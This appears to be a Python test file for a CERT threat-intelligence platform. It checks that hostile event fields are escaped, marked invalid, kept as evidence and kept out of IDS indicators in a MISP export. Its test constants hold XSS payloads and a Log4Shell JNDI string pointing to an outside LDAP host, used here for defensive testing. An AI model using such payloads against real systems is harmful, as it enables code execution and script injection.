"""Hostile values through the real paths: ingest API -> detection -> alert -> promotion -> MISP
export. A value that is not one of its type stays visible as evidence, marked invalid, and never
becomes an indicator; a user agent is shared but never as an IDS indicator."""

from __future__ import annotations

import json

import orjson
from sqlalchemy import select
from support import csrf_token, login

from cert.accounts.tokens import create_token
from cert.accounts.users import create_user
from cert.core.tlp import TLP
from cert.detection.indicators.store import IndicatorRecord, upsert
from cert.detection.run import run_detection
from cert.runtime.platform import Platform
from cert.storage.models import Alert, Case
from web.app import create_app

HOSTILE_IP = "<img src=x onerror=alert(1)>"
HOSTILE_HOST = "<svg onload=alert(2)>"
LOG4SHELL_UA = "${jndi:ldap://203.0.113.5:1389/a}"


def test_hostile_values_are_evidence_never_indicators(platform: Platform) -> None:
    with platform.db.session() as s:
        secret = create_token(s, "shipper", "someone", actor="test")[1]
        create_user(s, "ana", "analyst-password-1", "analyst")
        upsert(s, "partner", [IndicatorRecord("ip", "203.0.113.90", tlp=TLP.GREEN, confidence=90)])
    event = {"@timestamp": "2026-03-01T10:00:00Z", "source": {"ip": HOSTILE_IP},
             "destination": {"ip": "203.0.113.90"}, "host": {"name": HOSTILE_HOST},
             "user_agent": {"original": LOG4SHELL_UA}, "url": {"domain": "evil.example\"><b>"}}
    app = create_app(platform=platform)
    resp = app.test_client().post("/api/v1/events", data=orjson.dumps(event) + b"\n",
                                  headers={"Authorization": f"Bearer {secret}"})
    assert resp.status_code == 200, resp.get_json()  # the event is kept: it is evidence
    run_detection(platform)
    with platform.db.session() as s:
        alert = s.scalar(select(Alert))
        assert alert is not None
        alert_id = alert.id
        assert alert.source_ip is None
        assert set(alert.entities["invalid"]) == {"source.ip", "host.name", "url.domain"}

    c = app.test_client()
    assert login(c, "ana", "analyst-password-1").status_code == 302
    page = c.get(f"/alerts/{alert_id}").get_data(as_text=True)
    shown = page.split('id="invalid-values"')[1].split("</dd>")[0]
    assert "source.ip = &lt;img src=x onerror=alert(1)&gt;" in shown and "valeur invalide" in shown
    resp = c.post(f"/alerts/{alert_id}/promote", data={"csrf_token": csrf_token(page), "tlp": "green"})
    assert resp.status_code == 303
    case_url = resp.headers["Location"]
    page = c.get(case_url).get_data(as_text=True)
    rows = page.split('id="observables"')[1].split("</table>")[0]
    hostile_row = next(r for r in rows.split("<tr") if "&lt;img src=x" in r)
    assert "valeur invalide" in hostile_row and "<img" not in rows
    case_id = int(case_url.rstrip("/").split("/")[-1])
    with platform.db.session() as s:
        case = s.get_one(Case, case_id)
        marks = {(o.type, o.value): (o.valid, o.ioc) for o in case.observables}
    assert marks[("ip", HOSTILE_IP)] == (False, False)
    assert marks[("hostname", HOSTILE_HOST)] == (False, False)
    assert marks[("ip", "203.0.113.90")] == (True, True)

    assert c.post(f"/cases/{case_id}/export/misp", data={"csrf_token": csrf_token(page)}).status_code == 303
    feed = platform.settings.feed_dir
    (uuid,) = json.loads((feed / "manifest.json").read_text())
    text = (feed / f"{uuid}.json").read_text()
    assert "onerror" not in text and "onload" not in text
    attrs = {a["value"]: a for a in json.loads(text)["Event"]["Attribute"]}
    assert set(attrs) == {"203.0.113.90", LOG4SHELL_UA}
    assert attrs["203.0.113.90"]["type"] == "ip-src" and attrs["203.0.113.90"]["to_ids"] is True
    assert attrs[LOG4SHELL_UA]["type"] == "user-agent" and attrs[LOG4SHELL_UA]["to_ids"] is False
